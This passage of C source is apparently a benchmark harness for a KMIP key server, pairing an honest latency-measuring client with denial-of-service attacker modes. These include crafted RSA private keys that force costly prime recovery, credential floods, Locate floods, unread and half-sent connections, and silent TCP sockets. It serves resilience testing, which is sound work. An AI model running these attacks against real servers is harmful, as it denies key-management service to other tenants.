/*
 * kmip-attack: the honest client and the attackers of test/bench/attack.sh (issue 14: no client can take the
 * server away from the others). Not a test: it measures, and every attacker tolerates being refused.
 *
 * -m honest   measures what a well-behaved tenant sees, one request in flight per series, each series in a
 *             process of its own and paced on a fixed schedule: Get of an AES key over a persistent
 *             connection (--rate a second), a fresh connection with a full handshake and one Get
 *             (--connect-rate), and CreateKeyPair P-256 over a persistent connection (--ec-rate). Latency
 *             runs from the moment the request was due, not from when it could be sent, so a stall of the
 *             server counts for every request that fell due during it (no coordinated omission). With
 *             --server-pid it samples the server's VmRSS and its loop's CPU time over the measured seconds.
 *             Prints one line of key=value pairs (milliseconds, KiB).
 * -m MODE     runs one attacker as its own tenant (--cert, client2 by default, from source address
 *             --source, 127.0.0.2 by default, as from another host) until SIGTERM or -t seconds, then prints one line of key=value pairs: what it sent, what was answered (ok), refused
 *             (an error status), connections closed or failed, and its mode's level (see usage()).
 *
 * Both write --ready FILE when set up (the honest client's connections are open and its key exists; an
 * attacker's objects are made) and then wait for --go FILE, when given, before they start.
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <openssl/bn.h>
#include <openssl/rand.h>
#include <openssl/ssl.h>

#include "proto/client.h"
#include "proto/encode.h"
#include "proto/message.h"
#include "proto/names.h"
#include "proto/ttlv.h"
#include "tls/tls.h"
#include "test/util.h"

#include "test/bench/kmip-attack-prime.inc"

#ifndef IP_BIND_ADDRESS_NO_PORT
#define IP_BIND_ADDRESS_NO_PORT 24	/* Linux 4.2: pick the port at connect(), per destination */
#endif

#define MAX_CHILDREN	512
#define MAX_SOCKETS	16384
#define MAX_SAMPLES	(1u << 20)
#define MIB		(1024u * 1024u)

struct opts {
	const char *certs, *host, *mode, *cert, *ready, *go, *label, *source;
	unsigned port, conns, depth, count;
	double seconds, rate, connect_rate, ec_rate;
	size_t size, sent_size;
	pid_t server_pid;
	int timeout_ms;
};

/* Counters an attacker's processes share (MAP_SHARED), added to with atomics. */
struct counters {
	uint64_t sent, ok, refused, closed, conns, bytes, level, level_max, ready;
};

/* One honest series' samples (MAP_SHARED): latencies in seconds from the moment each request was due. */
struct series {
	uint64_t n, nsvc, errors, ready;
	double lat[MAX_SAMPLES];
	double svc[MAX_SAMPLES];	/* from sending to the response: what a client that waits would see */
};

static volatile sig_atomic_t stopping;
static struct counters *ctr;
static struct sockaddr_in source;	/* the attackers' source address (see connect() below) */
static bool source_set;

/*
 * Every connect() of this program, proto/client.c's included (this definition takes the place of libc's for
 * the whole executable), binds the socket to the source address of --source first when one is set: the
 * attackers come from 127.0.0.2 and the honest client from 127.0.0.1, as from two hosts, so that a server's
 * per-source-address limits fall on the attacker and not on the honest client. Returns what connect(2) does.
 */
int
connect(int fd, __CONST_SOCKADDR_ARG addr, socklen_t len)
{
	if (source_set && addr.__sockaddr__->sa_family == AF_INET) {
		int one = 1;

		(void)setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
		if (bind(fd, (const struct sockaddr *)&source, sizeof(source)) != 0)
			return -1;
	}
	return (int)syscall(SYS_connect, fd, addr.__sockaddr__, len);
}

/* SIGTERM and SIGINT ask the attacker's parent to stop and report. */
static void
on_stop(int sig)
{
	(void)sig;
	stopping = 1;
}

/* Adds v to a shared counter. */
static void
add(uint64_t *c, uint64_t v)
{
	__atomic_add_fetch(c, v, __ATOMIC_RELAXED);
}

/* Raises the shared maximum of a level to v when v is larger. */
static void
level_set(uint64_t v)
{
	uint64_t m = __atomic_load_n(&ctr->level_max, __ATOMIC_RELAXED);

	__atomic_store_n(&ctr->level, v, __ATOMIC_RELAXED);
	while (v > m && !__atomic_compare_exchange_n(&ctr->level_max, &m, v, false, __ATOMIC_RELAXED,
	    __ATOMIC_RELAXED))
		;
}

/* Sleeps ms milliseconds. */
static void
nap(int ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };

	(void)nanosleep(&ts, NULL);
}

/* Sleeps until the monotonic clock of util_now() reaches t (seconds), however short the wait. */
static void
sleep_until(double t)
{
	double now;

	while ((now = util_now()) < t) {
		double d = t - now;
		struct timespec ts = { (time_t)d, (long)((d - (double)(time_t)d) * 1e9) + 1 };

		if (ts.tv_nsec >= 1000000000L)
			ts.tv_sec++, ts.tv_nsec -= 1000000000L;
		(void)nanosleep(&ts, NULL);
	}
}

/*
 * Starts a request message: its header (KMIP 1.4, a username/password Credential when user is set, Batch
 * Count count); the caller then adds count items with item_begin() and item_end(), and ends with request_end().
 */
static void
request_begin(struct ttlv_enc *e, unsigned count, const char *user, const char *password)
{
	ttlv_enc_init(e);
	ttlv_enc_begin(e, KMIP_TAG_REQUEST_MESSAGE);
	ttlv_enc_begin(e, KMIP_TAG_REQUEST_HEADER);
	kmip_version_encode(e, KMIP_VERSION(1, 4));
	if (user != NULL) {
		ttlv_enc_begin(e, KMIP_TAG_AUTHENTICATION);
		ttlv_enc_begin(e, KMIP_TAG_CREDENTIAL);
		ttlv_enc_enum(e, KMIP_TAG_CREDENTIAL_TYPE, KMIP_CREDENTIAL_TYPE_USERNAME_AND_PASSWORD);
		ttlv_enc_begin(e, KMIP_TAG_CREDENTIAL_VALUE);
		ttlv_enc_cstr(e, KMIP_TAG_USERNAME, user);
		ttlv_enc_cstr(e, KMIP_TAG_PASSWORD, password);
		ttlv_enc_end(e);
		ttlv_enc_end(e);
		ttlv_enc_end(e);
	}
	ttlv_enc_int(e, KMIP_TAG_BATCH_COUNT, (int32_t)count);
	ttlv_enc_end(e);
}

/* Opens a batch item of operation op and its Request Payload. */
static void
item_begin(struct ttlv_enc *e, uint32_t op)
{
	ttlv_enc_begin(e, KMIP_TAG_BATCH_ITEM);
	ttlv_enc_enum(e, KMIP_TAG_OPERATION, op);
	ttlv_enc_begin(e, KMIP_TAG_REQUEST_PAYLOAD);
}

/* Closes the payload and the batch item. */
static void
item_end(struct ttlv_enc *e)
{
	ttlv_enc_end(e);
	ttlv_enc_end(e);
}

/* Closes the request message and finishes the encoding; aborts when the encoder failed (a bug here). */
static void
request_end(struct ttlv_enc *e)
{
	ttlv_enc_end(e);
	if (ttlv_enc_finish(e) != 0)
		abort();
}

/* One attribute of a Template-Attribute: an enumeration, an integer or (when s is set) a text string. */
static void
attr(struct ttlv_enc *e, const char *name, uint8_t type, uint32_t v, const char *s)
{
	ttlv_enc_begin(e, KMIP_TAG_ATTRIBUTE);
	ttlv_enc_cstr(e, KMIP_TAG_ATTRIBUTE_NAME, name);
	if (s != NULL)
		ttlv_enc_cstr(e, KMIP_TAG_ATTRIBUTE_VALUE, s);
	else if (type == TTLV_ENUMERATION)
		ttlv_enc_enum(e, KMIP_TAG_ATTRIBUTE_VALUE, v);
	else
		ttlv_enc_int(e, KMIP_TAG_ATTRIBUTE_VALUE, (int32_t)v);
	ttlv_enc_end(e);
}

/* A Create of an AES-256 key item, with groups Object Group values g0, g1... */
static void
item_create_aes(struct ttlv_enc *e, unsigned groups)
{
	char g[32];
	unsigned i;

	item_begin(e, KMIP_OPERATION_CREATE);
	ttlv_enc_enum(e, KMIP_TAG_OBJECT_TYPE, KMIP_OBJECT_TYPE_SYMMETRIC_KEY);
	ttlv_enc_begin(e, KMIP_TAG_TEMPLATE_ATTRIBUTE);
	attr(e, "Cryptographic Algorithm", TTLV_ENUMERATION, KMIP_CRYPTOGRAPHIC_ALGORITHM_AES, NULL);
	attr(e, "Cryptographic Length", TTLV_INTEGER, 256, NULL);
	attr(e, "Cryptographic Usage Mask", TTLV_INTEGER, 12, NULL);
	for (i = 0; i < groups; i++) {
		snprintf(g, sizeof(g), "g%u", i);
		attr(e, "Object Group", TTLV_TEXT_STRING, 0, g);
	}
	ttlv_enc_end(e);
	item_end(e);
}

/* A request of one item on a Unique Identifier (Get, Get Attributes, Destroy...). */
static void
enc_on_uid(struct ttlv_enc *e, uint32_t op, const char *uid, unsigned times)
{
	unsigned i;

	request_begin(e, times, NULL, NULL);
	for (i = 0; i < times; i++) {
		item_begin(e, op);
		ttlv_enc_cstr(e, KMIP_TAG_UNIQUE_IDENTIFIER, uid);
		item_end(e);
	}
	request_end(e);
}

/* A CreateKeyPair request: RSA of bits, or EC on P-256 when bits is 0. */
static void
enc_create_key_pair(struct ttlv_enc *e, unsigned bits)
{
	request_begin(e, 1, NULL, NULL);
	item_begin(e, KMIP_OPERATION_CREATE_KEY_PAIR);
	ttlv_enc_begin(e, KMIP_TAG_COMMON_TEMPLATE_ATTRIBUTE);
	if (bits == 0) {
		attr(e, "Cryptographic Algorithm", TTLV_ENUMERATION, KMIP_CRYPTOGRAPHIC_ALGORITHM_EC, NULL);
		attr(e, "Cryptographic Length", TTLV_INTEGER, 256, NULL);
	} else {
		attr(e, "Cryptographic Algorithm", TTLV_ENUMERATION, KMIP_CRYPTOGRAPHIC_ALGORITHM_RSA, NULL);
		attr(e, "Cryptographic Length", TTLV_INTEGER, bits, NULL);
	}
	ttlv_enc_end(e);
	item_end(e);
	request_end(e);
}

/* A Register of Secret Data of size bytes (a Password, Opaque format). */
static void
enc_register_secret(struct ttlv_enc *e, size_t size)
{
	uint8_t *v = calloc(1, size > 0 ? size : 1);

	if (v == NULL)
		abort();
	memset(v, 'x', size);
	request_begin(e, 1, NULL, NULL);
	item_begin(e, KMIP_OPERATION_REGISTER);
	ttlv_enc_enum(e, KMIP_TAG_OBJECT_TYPE, KMIP_OBJECT_TYPE_SECRET_DATA);
	ttlv_enc_begin(e, KMIP_TAG_TEMPLATE_ATTRIBUTE);
	attr(e, "Cryptographic Usage Mask", TTLV_INTEGER, 0, NULL);
	ttlv_enc_end(e);
	ttlv_enc_begin(e, KMIP_TAG_SECRET_DATA);
	ttlv_enc_enum(e, KMIP_TAG_SECRET_DATA_TYPE, KMIP_SECRET_DATA_TYPE_PASSWORD);
	ttlv_enc_begin(e, KMIP_TAG_KEY_BLOCK);
	ttlv_enc_enum(e, KMIP_TAG_KEY_FORMAT_TYPE, KMIP_KEY_FORMAT_TYPE_OPAQUE);
	ttlv_enc_begin(e, KMIP_TAG_KEY_VALUE);
	ttlv_enc_bytes(e, KMIP_TAG_KEY_MATERIAL, v, size);
	ttlv_enc_end(e);
	ttlv_enc_end(e);
	ttlv_enc_end(e);
	item_end(e);
	request_end(e);
	free(v);
}

/* The result status of batch item i of a response, or -1 when there is none. */
static int64_t
item_status(const struct ttlv *resp, unsigned i)
{
	const struct ttlv *it = ttlv_find(resp, KMIP_TAG_BATCH_ITEM), *st;

	while (it != NULL && i-- > 0)
		it = ttlv_find_next(it);
	st = ttlv_find(it, KMIP_TAG_RESULT_STATUS);
	return st != NULL && st->type == TTLV_ENUMERATION ? (int64_t)st->v.u32 : -1;
}

/* Copies the Unique Identifier of the first item's payload into uid. Returns 0, or -1 when there is none. */
static int
resp_uid(const struct ttlv *resp, char *uid, size_t size)
{
	const struct ttlv *u = ttlv_find(ttlv_find(ttlv_find(resp, KMIP_TAG_BATCH_ITEM),
	    KMIP_TAG_RESPONSE_PAYLOAD), KMIP_TAG_UNIQUE_IDENTIFIER);

	if (u == NULL || u->type != TTLV_TEXT_STRING || u->length >= size)
		return -1;
	memcpy(uid, u->v.bytes.data, u->length);
	uid[u->length] = '\0';
	return 0;
}

/* Makes the client context for certificate NAME (NAME.crt and NAME.key in the certificates folder). */
static SSL_CTX *
client_ctx(const struct opts *o, const char *name)
{
	char ca[1024], crt[1024], key[1024], *cause = NULL;
	SSL_CTX *ctx = NULL;

	snprintf(ca, sizeof(ca), "%s/ca.crt", o->certs);
	snprintf(crt, sizeof(crt), "%s/%s.crt", o->certs, name);
	snprintf(key, sizeof(key), "%s/%s.key", o->certs, name);
	if (tls_client_ctx_new(ca, crt, key, &ctx, &cause) != 0) {
		fprintf(stderr, "kmip-attack: %s\n", cause);
		exit(1);
	}
	return ctx;
}

/* Connects once. Returns the client, or NULL (the failure counted as closed when counting). */
static struct kmip_client *
try_connect(const struct opts *o, SSL_CTX *ctx, SSL_SESSION *sess, int timeout_ms)
{
	struct kmip_client *cl = NULL;
	char *cause = NULL;

	if (kmip_client_connect(ctx, o->host, o->port, sess, timeout_ms, &cl, &cause) != 0) {
		free(cause);
		if (ctr != NULL)
			add(&ctr->closed, 1);
		return NULL;
	}
	if (ctr != NULL)
		add(&ctr->conns, 1);
	return cl;
}

/* Connects, trying again every 50 ms until it works (attackers never give up). */
static struct kmip_client *
connect_retry(const struct opts *o, SSL_CTX *ctx, SSL_SESSION *sess)
{
	struct kmip_client *cl;

	while ((cl = try_connect(o, ctx, sess, o->timeout_ms)) == NULL)
		nap(50);
	return cl;
}

/*
 * Sends req and reads its response, counting its nitems items as sent and each as ok or refused. Returns 0
 * with the response (free *a), or -1 when the connection failed (closed, freed and counted; *cl is NULL).
 */
static int
exchange(struct kmip_client **cl, const struct ttlv_enc *req, unsigned nitems, struct ttlv **resp,
    struct ttlv_arena **a)
{
	char *cause = NULL;
	unsigned i;

	add(&ctr->sent, nitems);
	add(&ctr->bytes, req->len);
	if (kmip_client_call(*cl, req, resp, a, &cause) != 0) {
		free(cause);
		kmip_client_close(*cl);
		*cl = NULL;
		add(&ctr->closed, 1);
		return -1;
	}
	for (i = 0; i < nitems; i++)
		add(item_status(*resp, i) == KMIP_RESULT_STATUS_SUCCESS ? &ctr->ok : &ctr->refused, 1);
	return 0;
}

/* Sends req over and over on one connection, reconnecting whenever the server closes it. */
static void
loop_requests(const struct opts *o, SSL_CTX *ctx, const struct ttlv_enc *req, unsigned nitems)
{
	struct kmip_client *cl = NULL;

	for (;;) {
		struct ttlv_arena *a;
		struct ttlv *resp;

		if (cl == NULL)
			cl = connect_retry(o, ctx, NULL);
		if (exchange(&cl, req, nitems, &resp, &a) == 0)
			ttlv_arena_free(a);
		else
			nap(20);
	}
}

/* The child processes of an attacker. */
struct kids {
	pid_t pid[MAX_CHILDREN];
	unsigned n;
};

/*
 * Makes the calling child die with its parent, so that an attacker stopped by SIGKILL (or a script that was
 * interrupted) leaves no process hammering a port that may belong to someone else by then.
 */
static void
die_with_parent(void)
{
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (getppid() == 1)
		_exit(0);
}

/* Forks a child that runs fn(o, ctx, arg) and never returns. */
static void
spawn(struct kids *k, void (*fn)(const struct opts *, SSL_CTX *, void *), const struct opts *o, SSL_CTX *ctx,
    void *arg)
{
	pid_t pid;

	if (k->n >= MAX_CHILDREN)
		return;
	if ((pid = fork()) == 0) {
		die_with_parent();
		signal(SIGTERM, SIG_DFL);
		signal(SIGINT, SIG_DFL);
		fn(o, ctx, arg);
		_exit(0);
	}
	if (pid > 0)
		k->pid[k->n++] = pid;
}

/* Kills and reaps the children. */
static void
kill_kids(struct kids *k)
{
	unsigned i;

	for (i = 0; i < k->n; i++)
		kill(k->pid[i], SIGKILL);
	for (i = 0; i < k->n; i++)
		(void)waitpid(k->pid[i], NULL, 0);
	k->n = 0;
}

/* Writes the ready file, when there is one. */
static void
say_ready(const struct opts *o)
{
	FILE *f;

	if (o->ready != NULL && (f = fopen(o->ready, "w")) != NULL)
		fclose(f);
}

/*
 * The point between an attacker's set-up and its attack: writes the ready file, waits for the go file (when
 * there is one) and zeroes the counters, so that the set-up's requests are not counted as the attack's.
 */
static void
go_point(const struct opts *o)
{
	struct stat st;

	say_ready(o);
	while (o->go != NULL && stat(o->go, &st) != 0 && !stopping)
		nap(10);
	memset(ctr, 0, sizeof(*ctr));
}

/* ---- rsa: Transparent RSA Private Keys whose prime recovery does 16 modular exponentiations each ---- */

/*
 * Builds the request of the rsa case: o->count items (16) of Register Private Key, Transparent RSA Private Key
 * with a 4096-bit prime modulus n (3 mod 4), e = 65537 and d = (1 + 2 m c) / e where m = (n - 1) / 2 and c
 * is an odd number of about 11,900 bits chosen so that e divides 1 + 2 m c. Then e d - 1 = 2 m c: the
 * server's prime recovery shifts out one 2 and raises each of its 16 bases to m c, a 16,000-bit exponent;
 * g^(m c) = (g^m)^c = +-1 (Euler's criterion, c odd), so every base "fails" and all 16 run before it gives up.
 */
static void
enc_rsa_batch(struct ttlv_enc *e, unsigned items)
{
	BN_CTX *bc = BN_CTX_new();
	BIGNUM *n = NULL, *ee = BN_new(), *m = BN_new(), *c = BN_new(), *c0 = BN_new(), *t = BN_new();
	BIGNUM *d = BN_new(), *e2 = BN_new(), *rem = BN_new();
	uint8_t nb[600], db[2100], eb[4] = { 0x00, 0x01, 0x00, 0x01 };
	int nlen, dlen;
	unsigned i;

	if (bc == NULL || d == NULL || rem == NULL || e2 == NULL || t == NULL || c0 == NULL || c == NULL ||
	    m == NULL || ee == NULL || BN_hex2bn(&n, attack_prime_hex) == 0 || !BN_set_word(ee, 65537) ||
	    !BN_sub(m, n, BN_value_one()) || !BN_rshift1(m, m) || !BN_lshift1(t, m) ||
	    !BN_mod(t, t, ee, bc) || BN_mod_inverse(c0, t, ee, bc) == NULL || !BN_sub(c0, ee, c0) ||
	    !BN_lshift1(e2, ee))
		abort();
	if (!BN_is_odd(c0) && !BN_add(c0, c0, ee))	/* c0 = -(2m)^-1 mod e, made odd: c = c0 mod 2e */
		abort();
	if (!BN_rand(c, 11900, BN_RAND_TOP_ONE, BN_RAND_BOTTOM_ANY) || !BN_mod(rem, c, e2, bc) ||
	    !BN_sub(c, c, rem) || !BN_add(c, c, c0))
		abort();
	/* d = (1 + 2 m c) / e, exactly. */
	if (!BN_mul(t, m, c, bc) || !BN_lshift1(t, t) || !BN_add_word(t, 1) || !BN_div(d, rem, t, ee, bc) ||
	    !BN_is_zero(rem))
		abort();
	nlen = BN_bn2binpad(n, nb + 1, BN_num_bytes(n));
	dlen = BN_bn2binpad(d, db + 1, BN_num_bytes(d));
	if (nlen <= 0 || dlen <= 0 || (size_t)dlen + 1 > sizeof(db))
		abort();
	nb[0] = db[0] = 0;	/* a leading zero keeps the Big Integers positive */
	request_begin(e, items, NULL, NULL);
	for (i = 0; i < items; i++) {
		item_begin(e, KMIP_OPERATION_REGISTER);
		ttlv_enc_enum(e, KMIP_TAG_OBJECT_TYPE, KMIP_OBJECT_TYPE_PRIVATE_KEY);
		ttlv_enc_begin(e, KMIP_TAG_TEMPLATE_ATTRIBUTE);
		attr(e, "Cryptographic Usage Mask", TTLV_INTEGER, 1, NULL);
		ttlv_enc_end(e);
		ttlv_enc_begin(e, KMIP_TAG_PRIVATE_KEY);
		ttlv_enc_begin(e, KMIP_TAG_KEY_BLOCK);
		ttlv_enc_enum(e, KMIP_TAG_KEY_FORMAT_TYPE, KMIP_KEY_FORMAT_TYPE_TRANSPARENT_RSA_PRIVATE_KEY);
		ttlv_enc_begin(e, KMIP_TAG_KEY_VALUE);
		ttlv_enc_begin(e, KMIP_TAG_KEY_MATERIAL);
		ttlv_enc_bigint(e, KMIP_TAG_MODULUS, nb, (size_t)nlen + 1);
		ttlv_enc_bigint(e, KMIP_TAG_PRIVATE_EXPONENT, db, (size_t)dlen + 1);
		ttlv_enc_bigint(e, KMIP_TAG_PUBLIC_EXPONENT, eb, sizeof(eb));
		ttlv_enc_end(e);
		ttlv_enc_end(e);
		ttlv_enc_enum(e, KMIP_TAG_CRYPTOGRAPHIC_ALGORITHM, KMIP_CRYPTOGRAPHIC_ALGORITHM_RSA);
		ttlv_enc_int(e, KMIP_TAG_CRYPTOGRAPHIC_LENGTH, 4096);
		ttlv_enc_end(e);
		ttlv_enc_end(e);
		item_end(e);
	}
	request_end(e);
	fprintf(stderr, "kmip-attack: rsa: modulus %d bits (prime), private exponent %d bits, %u items a batch\n",
	    BN_num_bits(n), BN_num_bits(d), items);
	BN_free(n), BN_free(ee), BN_free(m), BN_free(c), BN_free(c0), BN_free(t), BN_free(d), BN_free(e2);
	BN_free(rem);
	BN_CTX_free(bc);
}

/* A child of the modes that repeat one request: arg is the encoded request, its item count in o->depth. */
static void
child_repeat(const struct opts *o, SSL_CTX *ctx, void *arg)
{
	loop_requests(o, ctx, arg, o->depth);
}

/* ---- creds: wrong Credentials on fresh (resumed) connections ---- */

/* Reconnects (resuming the first session) and sends three wrong username/password Credentials each time. */
static void
child_creds(const struct opts *o, SSL_CTX *ctx, void *arg)
{
	struct ttlv_enc req;
	SSL_SESSION *sess = NULL;
	unsigned i;

	(void)arg;
	request_begin(&req, 1, "bench", "not-the-password");
	item_begin(&req, KMIP_OPERATION_QUERY);
	ttlv_enc_enum(&req, KMIP_TAG_QUERY_FUNCTION, KMIP_QUERY_FUNCTION_QUERY_OBJECTS);
	item_end(&req);
	request_end(&req);
	for (;;) {
		struct kmip_client *cl = connect_retry(o, ctx, sess);

		if (sess == NULL)
			sess = SSL_get1_session(kmip_client_ssl(cl));
		for (i = 0; i < 3 && cl != NULL; i++) {
			struct ttlv_arena *a;
			struct ttlv *resp;

			if (exchange(&cl, &req, 1, &resp, &a) == 0)
				ttlv_arena_free(a);
		}
		kmip_client_close(cl);
	}
}

/* ---- locate: many Locates in flight over the attacker's own objects ---- */

/*
 * Creates *arg AES keys (its share of --count) in batches of 64 Create items, halving the batch while the
 * server refuses whole batches before the first key (a cap on batch items), and stopping at a later refusal
 * (a quota: the attack uses what it has) or after 20 connections in a row failed.
 */
static void
child_fill(const struct opts *o, SSL_CTX *ctx, void *arg)
{
	unsigned share = *(unsigned *)arg, made = 0, batch = 64, failures = 0, i;
	struct ttlv_enc req;
	struct kmip_client *cl = NULL;

	req.buf = NULL;
	while (made < share && failures < 20) {
		struct ttlv_arena *a;
		struct ttlv *resp;
		unsigned good = 0;

		if (req.buf == NULL) {
			request_begin(&req, batch, NULL, NULL);
			for (i = 0; i < batch; i++)
				item_create_aes(&req, 0);
			request_end(&req);
		}
		if (cl == NULL)
			cl = connect_retry(o, ctx, NULL);
		if (exchange(&cl, &req, batch, &resp, &a) != 0) {
			failures++;
			continue;
		}
		failures = 0;
		for (i = 0; i < batch; i++)
			good += item_status(resp, i) == KMIP_RESULT_STATUS_SUCCESS;
		ttlv_arena_free(a);
		made += good;
		add(&ctr->level, good);
		if (good == 0 && made == 0 && batch > 1) {
			batch /= 2;
			ttlv_enc_free(&req);
			req.buf = NULL;
		} else if (good < batch) {
			break;
		}
	}
	if (req.buf != NULL)
		ttlv_enc_free(&req);
	kmip_client_close(cl);
}

/* Keeps o->depth Locates (Maximum Items 1, every Symmetric Key the attacker owns) in flight on a connection. */
static void
child_locate(const struct opts *o, SSL_CTX *ctx, void *arg)
{
	struct ttlv_enc req;
	struct kmip_client *cl = NULL;
	unsigned inflight = 0;
	char *cause = NULL;

	(void)arg;
	request_begin(&req, 1, NULL, NULL);
	item_begin(&req, KMIP_OPERATION_LOCATE);
	ttlv_enc_int(&req, KMIP_TAG_MAXIMUM_ITEMS, 1);
	attr(&req, "Object Type", TTLV_ENUMERATION, KMIP_OBJECT_TYPE_SYMMETRIC_KEY, NULL);
	item_end(&req);
	request_end(&req);
	for (;;) {
		struct ttlv_arena *a;
		struct ttlv *resp;

		if (cl == NULL) {
			cl = connect_retry(o, ctx, NULL);
			inflight = 0;
		}
		while (cl != NULL && inflight < o->depth) {
			if (kmip_client_write(cl, req.buf, req.len, &cause) != 0) {
				free(cause), cause = NULL;
				kmip_client_close(cl), cl = NULL;
				add(&ctr->closed, 1);
				break;
			}
			add(&ctr->sent, 1);
			inflight++;
		}
		if (cl == NULL)
			continue;
		if (kmip_client_read(cl, &resp, &a, &cause) != 0) {
			free(cause), cause = NULL;
			kmip_client_close(cl), cl = NULL;
			add(&ctr->closed, 1);
			continue;
		}
		inflight--;
		add(item_status(resp, 0) == KMIP_RESULT_STATUS_SUCCESS ? &ctr->ok : &ctr->refused, 1);
		ttlv_arena_free(a);
	}
}

/* ---- bigresp and partial: many connections that send a request (or part of one) and never read ---- */

/*
 * Holds o->conns TLS connections, each having sent the first `sent` bytes of req and reading nothing; one
 * the server closes is opened and sent again. Runs until killed.
 */
static void
hold_unread(const struct opts *o, SSL_CTX *ctx, const struct ttlv_enc *req, size_t sent)
{
	struct kmip_client *cl[MAX_CHILDREN];
	struct pollfd pf[MAX_CHILDREN];
	unsigned i, n = o->conns < MAX_CHILDREN ? o->conns : MAX_CHILDREN, held = 0;
	char *cause = NULL;

	memset(cl, 0, sizeof(cl));
	for (;;) {
		for (i = 0; i < n; i++) {
			if (cl[i] != NULL)
				continue;
			if ((cl[i] = try_connect(o, ctx, NULL, o->timeout_ms)) == NULL)
				continue;
			if (kmip_client_write(cl[i], req->buf, sent, &cause) != 0) {
				free(cause), cause = NULL;
				kmip_client_close(cl[i]), cl[i] = NULL;
				add(&ctr->closed, 1);
				continue;
			}
			add(&ctr->sent, 1);
			add(&ctr->bytes, sent);
			level_set(++held);
		}
		for (i = 0; i < n; i++) {
			pf[i].fd = cl[i] != NULL ? kmip_client_fd(cl[i]) : -1;
			pf[i].events = POLLRDHUP;
			pf[i].revents = 0;
		}
		if (poll(pf, n, 200) < 0)
			continue;
		for (i = 0; i < n; i++) {
			if (cl[i] == NULL || !(pf[i].revents & (POLLRDHUP | POLLHUP | POLLERR)))
				continue;
			/* Closed by the server: drop without close_notify (its buffers are full). */
			shutdown(kmip_client_fd(cl[i]), SHUT_RDWR);
			kmip_client_close(cl[i]), cl[i] = NULL;
			add(&ctr->closed, 1);
			held--;
		}
	}
}

/* ---- handshake: TCP connections that never send a ClientHello, and ones that connect and close ---- */

/* Opens a non-blocking TCP connection to the server. Returns the fd or -1. */
static int
tcp_open(const struct opts *o)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)o->port);
	if (inet_pton(AF_INET, o->host, &sa.sin_addr) != 1 ||
	    (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	add(&ctr->sent, 1);
	return fd;
}

/*
 * Holds o->count silent sockets (reopening those the server closes) and o->conns more that connect and close
 * again at once, in one poll loop, until killed. The level is the silent sockets connected at the moment.
 */
static void
run_handshake(const struct opts *o)
{
	static struct pollfd pf[MAX_SOCKETS];
	static bool up[MAX_SOCKETS];
	unsigned silent = o->count, n = o->count + o->conns, i, held = 0;
	char buf[256];

	if (n > MAX_SOCKETS)
		n = MAX_SOCKETS, silent = n - o->conns;
	for (i = 0; i < n; i++) {
		pf[i].fd = tcp_open(o);
		pf[i].events = POLLIN | POLLOUT;
		up[i] = false;
	}
	for (;;) {
		if (poll(pf, n, 100) < 0)
			continue;
		for (i = 0; i < n; i++) {
			short r = pf[i].revents;
			bool reopen = false;

			if (pf[i].fd < 0) {
				reopen = true;
			} else if (!up[i] && (r & POLLOUT) && !(r & (POLLERR | POLLHUP))) {
				up[i] = true;
				add(&ctr->conns, 1);
				if (i < silent) {
					held++;
					pf[i].events = POLLIN;	/* now wait for the server to give up on it */
				} else {
					reopen = true;		/* a churner: connected, so go again */
				}
			} else if (r & (POLLERR | POLLHUP | POLLIN)) {
				if ((r & POLLIN) && read(pf[i].fd, buf, sizeof(buf)) > 0)
					continue;
				if (i < silent) {
					add(&ctr->closed, 1);
					if (up[i])
						held--;
				}
				reopen = true;
			}
			if (reopen) {
				if (pf[i].fd >= 0)
					close(pf[i].fd);
				pf[i].fd = tcp_open(o);
				pf[i].events = POLLIN | POLLOUT;
				up[i] = false;
			}
		}
		level_set(held);
	}
}

/* ---- the attacker's parent: set-up, start, wait, report ---- */

/* Runs the attack of o->mode; returns the exit status. */
static int
attack(struct opts *o)
{
	SSL_CTX *ctx = client_ctx(o, o->cert);
	struct kids k = { .n = 0 };
	struct ttlv_enc req;
	struct kmip_client *cl = NULL;
	struct ttlv_arena *a;
	struct ttlv *resp;
	char uid[128];
	double t0, end, secs;
	unsigned i;
	uint64_t setup_level = 0;
	struct rlimit rl;

	ctr = mmap(NULL, sizeof(*ctr), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (ctr == MAP_FAILED)
		return 1;
	memset(ctr, 0, sizeof(*ctr));
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &rl);
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, on_stop);
	signal(SIGINT, on_stop);

	if (strcmp(o->mode, "rsa") == 0) {
		enc_rsa_batch(&req, o->count ? o->count : 16);
		o->depth = o->count ? o->count : 16;
		go_point(o);
		for (i = 0; i < (o->conns ? o->conns : 1); i++)
			spawn(&k, child_repeat, o, ctx, &req);
	} else if (strcmp(o->mode, "attrs") == 0) {
		/* One object with as many Object Group values as the server takes, halving on refusal. */
		unsigned groups = o->count ? o->count : 60000;

		for (;;) {
			request_begin(&req, 1, NULL, NULL);
			item_create_aes(&req, groups);
			request_end(&req);
			cl = connect_retry(o, ctx, NULL);
			if (exchange(&cl, &req, 1, &resp, &a) == 0) {
				int ok = item_status(resp, 0) == KMIP_RESULT_STATUS_SUCCESS &&
				    resp_uid(resp, uid, sizeof(uid)) == 0;

				ttlv_arena_free(a);
				if (ok)
					break;
			}
			ttlv_enc_free(&req);
			kmip_client_close(cl), cl = NULL;
			if ((groups /= 2) == 0) {
				fprintf(stderr, "kmip-attack: attrs: no object could be created\n");
